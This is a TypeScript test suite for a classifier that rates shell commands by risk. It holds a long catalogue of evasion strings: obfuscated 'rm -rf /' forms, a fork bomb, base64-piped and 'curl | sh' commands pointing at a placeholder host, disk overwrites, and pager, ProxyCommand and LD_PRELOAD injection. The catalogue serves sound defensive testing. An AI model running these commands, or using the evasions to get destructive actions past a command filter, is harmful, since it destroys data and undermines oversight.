import assert from 'node:assert/strict';
import { draws, seeds } from '../../seeded.ts';
import { seeded } from '../../seeded.ts';
import { assess as assessRequest } from '../../../../src/core/execution/risk/assess.ts';
import { decidesWhatRuns } from '../../../../src/core/execution/risk/startVariables.ts';
import { assess, newParser } from './riskTable.ts';

const evasions = [
  String.raw`r\m -rf /`,
  `'rm' -rf /`,
  `"rm" -rf /`,
  `r''m -rf /`,
  `r""m -rf /`,
  `$'rm' -rf /`,
  String.raw`$'\x72\x6d' -rf /`,
  String.raw`$'\162\155' -rf /`,
  '/bin/rm -rf /',
  '/usr/bin/../bin/rm -rf /',
  './rm -rf /',
  '$HOME/bin/rm -rf /',
  '\\rm -rf /',
  'rm${IFS}-rf${IFS}/',
  'rm$IFS-rf$IFS/',
  '{rm,-rf,/}',
  'X=rm; $X -rf /',
  'X=rm; ${X} -rf /',
  'X=rm; "$X" -rf /',
  'X=r; Y=m; $X$Y -rf /',
  'X="rm -rf /"; $X',
  'X="rm -rf /"; eval $X',
  'X="rm -rf /"; bash -c "$X"',
  'A=(rm -rf /); "${A[@]}"',
  'X=mr; ${X:1:1}${X:0:1} -rf /',
  '$CMD -rf /',
  '"$@"',
  'run() { "$@"; }; run rm -rf /',
  'f() { rm -rf /; }; f',
  'f() { kubectl "$@"; }; f delete ns prod',
  `alias ls='rm -rf /'; ls`,
  ':(){ :|:& };:',
  'eval "rm -rf /"',
  'eval rm -rf /',
  'eval $(echo rm -rf /)',
  'eval "$(base64 -d <<< cm0=)"',
  'echo cm0gLXJmIC8= | base64 -d | sh',
  'base64 -d file | bash',
  'echo "rm -rf /" | sh',
  String.raw`printf 'rm -rf /' | bash`,
  String.raw`printf '\x72\x6d -rf /' | sh`,
  'echo -e "\\x72m -rf /" | sh',
  'rev <<< "/ fr- mr" | sh',
  'curl -s https://x.example/a | sh',
  'curl -s https://x.example/a | sudo bash -s',
  'wget -qO- https://x.example/a | bash',
  'bash <(curl -s https://x.example/a)',
  'source <(curl -s https://x.example/a)',
  '. /dev/stdin <<< "rm -rf /"',
  'bash <<EOF\nrm -rf /\nEOF',
  "bash <<'EOF'\nrm -rf /\nEOF",
  'cat <<EOF | bash\nrm -rf /\nEOF',
  'bash <<< "rm -rf /"',
  'ssh host <<EOF\nrm -rf /\nEOF',
  'ssh host bash <<EOF\nrm -rf /\nEOF',
  'sudo bash <<EOF\nrm -rf /\nEOF',
  'kubectl exec -i web -- sh <<EOF\nrm -rf /data\nEOF',
  'psql <<EOF\nDROP TABLE a;\nEOF',
  'psql <<< "DROP TABLE a"',
  'redis-cli <<EOF\nPING\nDEL k\nEOF',
  'redis-cli <<EOF\n$(cat commands)\nEOF',
  'mongosh <<EOF\nuse shop\ndb.orders.drop()\nEOF',
  'ssh cache <<EOF\nredis-cli <<< FLUSHALL\nEOF',
  'echo "$(rm -rf /)"',
  'echo `rm -rf /`',
  'cat <(rm -rf /)',
  'ls > /dev/sda',
  'cat image > /dev/nvme0n1',
  'F=/dev/sda; ls > $F',
  'echo b > /proc/sysrq-trigger',
  'ls > /etc/passwd',
  'env -S "rm -rf /"',
  'env A=b rm -rf /',
  'A=b rm -rf /',
  'command rm -rf /',
  'builtin eval "rm -rf /"',
  'exec rm -rf /',
  'busybox rm -rf /',
  'nohup rm -rf / &',
  'timeout -k 5 10 rm -rf /',
  'nice -n 10 rm -rf /',
  'xargs rm < list',
  'xargs -I{} sh -c "rm {}"',
  'find / -exec sh -c "rm $1" _ {} \\;',
  'find / $(echo -delete)',
  'sudo -u root -- rm -rf /',
  'sudo --unknown x rm -rf /',
  'su -c "rm -rf /"',
  'su - root -c "rm -rf /"',
  'watch "rm -rf /"',
  'watch rm -rf /',
  'trap "rm -rf /" EXIT',
  'coproc rm -rf /',
  'time rm -rf /',
  '! rm -rf /',
  '(rm -rf /)',
  '{ rm -rf /; }',
  'true && rm -rf /',
  'false || rm -rf /',
  'if true; then rm -rf /; fi',
  'for c in ls rm; do $c -rf /; done',
  'case a in a) rm -rf /;; esac',
  'while rm -rf /; do :; done',
  "sh -c '$0 $@' rm -rf /",
  'bash -xc "rm -rf /"',
  'bash -c "bash -c \'rm -rf /\'"',
  'awk \'BEGIN{system("rm -rf /")}\'',
  'sed "s/x/rm -rf \\//e" f',
  'python3 -c \'import os; os.system("rm -rf /")\'',
  'perl -e \'unlink "a"\'',
  'vim -c "!rm -rf /"',
  'tar cf a --checkpoint=1 --checkpoint-action=exec=sh b',
  'rsync -e "sh -c rm" a b',
  'git -c core.pager="rm -rf /" log',
  'GIT_SSH_COMMAND="rm -rf /" git fetch',
  'PAGER="rm -rf /" man ls',
  'ssh -o ProxyCommand="rm -rf /" host',
  'parallel rm ::: a b',
  'kubectl $VERB pods',
  'V=delete; kubectl $V ns prod',
  'aws s3 $X s3://b',
  'curl -X "$METHOD" https://x.example',
  'M=DELETE; curl -X $M https://x.example',
  'mystery-wrapper rm -rf /',
  'mystery "rm -rf /"',
  'read X; $X',
  'if then fi (( rm -rf /',
  'rm -rf / ; echo "unclosed',
  'ls\nrm -rf /',
  'ls; #\nrm -rf /',
  'ls #; x\nrm -rf /',
  'rm \\\n -rf /',
  'r\\\nm -rf /',
  'export X=$(rm -rf /)',
  'local x=`rm -rf /`',
  '[[ -n $(rm -rf /) ]]',
  'echo $(( $(rm -rf /) ))',
  'echo ${X:-$(rm -rf /)}',
  'A[$(rm -rf /)]=1',
  'function g { rm -rf /; }; g',
  'printf -v X rm; $X -rf /',
  'mapfile -C "rm -rf /" A',
  "test -v 'a[$(rm -rf /)]'",
  "[ -v 'a[$(rm -rf /)]' ]",
  "[[ 'a[$(rm -rf /)]' -eq 1 ]]",
  "printf -v 'a[$(rm -rf /)]' x",
  "let 'a[`rm -rf /`]=1'",
  "unset 'a[$(rm -rf /)]'",
  'curl -G $(base64 -d <<< eA==) https://x.example',
  'curl -G -X DELETE https://x.example',
  'curl -G https://x.example --next -X DELETE https://x.example',
];

describe('An evasion never lowers the class', () => {
  for (const command of evasions)
    it(JSON.stringify(command), async () => {
      const report = await assess(command);
      assert.equal(report.risk, 'destructive', JSON.stringify(report.findings));
    });
});

const destructive = [
  'rm -rf /',
  'kubectl delete ns prod',
  'terraform destroy',
  'psql -c "DROP TABLE a"',
  'aws s3 rm s3://b --recursive',
  'systemctl stop nginx',
  'redis-cli flushall',
  'git push --force',
  'docker rm -f web',
  'find / -delete',
  'dd if=/dev/zero of=/dev/sda',
];
const quoted = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
const wraps: readonly ((text: string) => string)[] = [
  text => `sudo ${text}`,
  text => `env A=b ${text}`,
  text => `timeout 5 ${text}`,
  text => `nohup ${text}`,
  text => `time ${text}`,
  text => `nice -n 5 ${text}`,
  text => `command ${text}`,
  text => `setsid ${text}`,
  text => `doas ${text}`,
  text => `sudo -u deploy ${text}`,
  text => `flock /tmp/lock ${text}`,
  text => `watch -n1 ${quoted(text)}`,
  text => `coproc ${text}`,
  text => `echo a | xargs ${text}`,
  text => `find . -exec ${text} \\;`,
  text => `parallel ${quoted(text)} ::: a b`,
  text => `bash -c ${quoted(text)}`,
  text => `sh -c ${quoted(text)}`,
  text => `eval ${quoted(text)}`,
  text => `ssh host ${quoted(text)}`,
  text => `kubectl exec pod -- sh -c ${quoted(text)}`,
  text => `docker exec web bash -c ${quoted(text)}`,
  text => `echo "$( ${text})"`,
  text => `if true; then ${text}; fi`,
  text => `for i in 1 2; do ${text}; done`,
  text => `(${text})`,
  text => `{ ${text}; }`,
  text => `true && ${text}`,
  text => `ls | xargs sh -c ${quoted(text)}`,
  text => `f() { ${text}; }; f`,
  text => `bash <<'EOF_${String(text.length)}'\n${text}\nEOF_${String(text.length)}`,
  text => `ls; ${text}`,
  text => `nice -n 5 sh -c ${quoted(text)}`,
  text => `find . -exec sh -c ${quoted(text)} \\;`,
  text => `stage=1\n${text}\necho done`,
  text => `trap ${quoted(text)} EXIT`,
  text => `X=${quoted(text)}; eval "$X"`,
  text => `eval "${text.replace(/[\\"$`]/g, '\\$&')}"`,
  text => `bash -lc "${text.replace(/[\\"$`]/g, '\\$&')}"`,
  text => `ssh -o BatchMode=yes deploy@host ${quoted(text)}`,
  text => `timeout 5 sh -c ${quoted(text)}`,
  text => `flock /tmp/lock -c ${quoted(text)}`,
  text => `parallel ${quoted(text)} ::: a b`,
  text => `watch ${quoted(text)}`,
  text => `setsid bash -c ${quoted(text)} &`,
  text => `alias look=${quoted(text)}; look`,
  text => `while true; do ${text}; break; done`,
  text => `if ${text}; then :; fi`,
  text => `until false; do ${text}; done`,
  text => `case a in a) ${text};; esac`,
  text => `! (${text})`,
  text => `false || { ${text}; }`,
  text => `x=$( ${text}); echo "$x"`,
  text => `cat <(${text})`,
  text => `function look { ${text}; }; look`,
  text => `sh <<< ${quoted(text)}`,
  text => `echo ${quoted(text)} | sh`,
  text => `cat <<'EOF_${String(text.length)}' | bash\n${text}\nEOF_${String(text.length)}`,
  text => `[[ -n $( ${text}) ]]`,
];
/** Those that take one simple command, so they come before anything that makes a compound of it. */
const simpleOnly = wraps.findIndex(wrap => wrap('a').startsWith('bash -c'));
/** What these make is one simple command again. */
const lastSimple = wraps.findIndex(wrap => wrap('a').startsWith('docker exec'));

describe('Wrapping a destructive command', () => {
  for (const seed of seeds(draws(300, 20_000)))
    it(`never lowers its class (seed ${seed})`, async () => {
      const random = seeded(seed);
      const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
      let text = pick(destructive);
      const depth = 1 + Math.floor(random() * 4);
      let simple = true;
      for (let turn = 0; turn < depth; turn++) {
        const wrap: (text: string) => string = pick(simple ? wraps : wraps.slice(simpleOnly));
        simple &&= wraps.indexOf(wrap) <= lastSimple;
        text = wrap(text);
      }
      assert.equal((await assess(text)).risk, 'destructive', `seed ${seed}: ${text}`);
    });
});

describe('A runbook’s own variables', () => {
  const risk = async (
    startVariables: Readonly<Record<string, string | null>>,
    code = 'uptime',
    interpreter: 'bash' | 'psql' = 'bash',
  ) => assessRequest(await newParser(), { code, interpreter, declared: null, team: [], startVariables });

  for (const [name, value] of [
    ['BASH_ENV', 'scripts/env.sh'],
    ['BASH_ENV', 'ls'],
    ['GIT_PAGER', "touch /tmp/x; echo 'a'"],
    ['PATH', './tools:/usr/bin'],
    ['HOME', 'home'],
    ['LD_PRELOAD', 'lib/evil.so'],
    ['GIT_CONFIG_GLOBAL', 'git/config'],
    ['PATH', null],
  ] as const)
    it(`that decide what runs are judged with each block: ${name}=${value}`, async () => {
      assert.ok(decidesWhatRuns(name));
      const report = await risk({ [name]: value });
      assert.equal(report.risk, 'changing', JSON.stringify(report.findings));
      assert.deepEqual([report.findings[0]?.line, report.findings[0]?.command.startsWith(name)], [1, true]);
      assert.notEqual((await risk({ [name]: value }, 'SELECT 1', 'psql')).risk, 'read-only');
    });

  it('count as what they run, on its target', async () => {
    const report = await risk({ GIT_PAGER: 'kubectl delete ns prod' }, 'git log');
    assert.equal(report.risk, 'destructive');
    assert.ok(report.touches.includes('kubernetes'));
    assert.equal((await risk({ PAGER: null })).risk, 'destructive', 'a secret, which is not shown');
  });

  it('never lower a class, and leave it where they only look', async () => {
    assert.equal((await risk({ PAGER: 'less -R' }, 'git log')).risk, 'read-only');
    assert.equal((await risk({ PAGER: 'less' }, 'rm a')).risk, 'destructive');
    for (const name of ['POD', 'ENV', 'NAMESPACE', 'PGHOST']) assert.ok(!decidesWhatRuns(name));
  });
});
